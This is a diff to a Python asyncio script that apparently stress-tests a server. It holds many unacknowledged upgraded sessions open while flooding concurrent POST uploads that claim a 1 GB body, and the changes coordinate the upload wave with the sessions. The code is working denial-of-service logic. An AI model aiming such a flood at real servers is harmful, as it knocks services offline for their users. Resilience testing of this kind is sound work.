@@ -195,6 +195,7 @@ async def unacknowledged(port: int, source: str, token: str) -> None:
     """
     settings = Settings(stream_window=4 * 1024 * 1024, session_window=256 * 1024 * 1024)
     ping = binary(encode_frame(FrameType.PING, bytes(16)))
+    are_open = asyncio.Event()  # uploads that wait would all go to the first session
 
     async def session(number: int) -> None:
         for turn in itertools.count():
@@ -205,6 +206,8 @@ async def unacknowledged(port: int, source: str, token: str) -> None:
                 done[status] += 1
                 if status == "101":
                     writer.write(hello(f"attack{number}x{turn}", settings=settings))
+                    if done["101"] >= SESSIONS:
+                        are_open.set()
                     while await _some(reader):
                         writer.write(ping)  # it is heard of, and what it has got is 0 frames
                     done["ended"] += 1
@@ -215,20 +218,24 @@ async def unacknowledged(port: int, source: str, token: str) -> None:
 
     async def upload() -> None:
         head = b"POST / HTTP/1.1\r\nHost: bad.example.test\r\nContent-Length: 1000000000\r\n\r\n"
+        await are_open.wait()
         while True:
             try:
                 reader, writer = await dial(port, source)
                 writer.write(head)
-                reply = asyncio.ensure_future(reader.read(100))
-                while not reply.done():
-                    writer.write(bytes(65536))
-                    done["bytes"] += 65536
-                    drain = asyncio.ensure_future(writer.drain())
-                    await asyncio.wait((drain, reply), return_when=asyncio.FIRST_COMPLETED)
-                    if not drain.done():
-                        drain.cancel()
+                with contextlib.suppress(TimeoutError):  # then on a session that takes more
+                    async with asyncio.timeout(3):
+                        await asyncio.wait(
+                            [
+                                reply := asyncio.ensure_future(reader.read(100)),
+                                sending := asyncio.ensure_future(_pour(writer)),
+                            ],
+                            return_when=asyncio.FIRST_COMPLETED,
+                        )
+                reply.cancel()
+                sending.cancel()
                 writer.transport.abort()
-                done[(await reply)[9:12].decode("latin-1") or "closed"] += 1
+                done["uploads"] += 1
             except OSError:
                 done["failed"] += 1
             await asyncio.sleep(0.2)
@@ -237,12 +244,22 @@ async def unacknowledged(port: int, source: str, token: str) -> None:
     await asyncio.gather(*(session(number) for number in range(SESSIONS)), *uploads)
 
 
+async def _pour(writer: asyncio.StreamWriter) -> None:
+    """Send as much as is taken, until the connection is lost."""
+    with contextlib.suppress(ConnectionError):
+        while True:
+            writer.write(bytes(65536))
+            done["bytes"] += 65536
+            await writer.drain()  # which alone lets nobody else run
+            await asyncio.sleep(0)
+
+
 async def _some(reader: asyncio.StreamReader) -> bool:
     """Read and drop what comes in a second; False at the end."""
     with contextlib.suppress(TimeoutError):
         async with asyncio.timeout(1):
-            while await reader.read(1 << 20):
-                pass
+            while data := await reader.read(1 << 20):
+                done["taken"] += len(data)
             return False
     return True
 
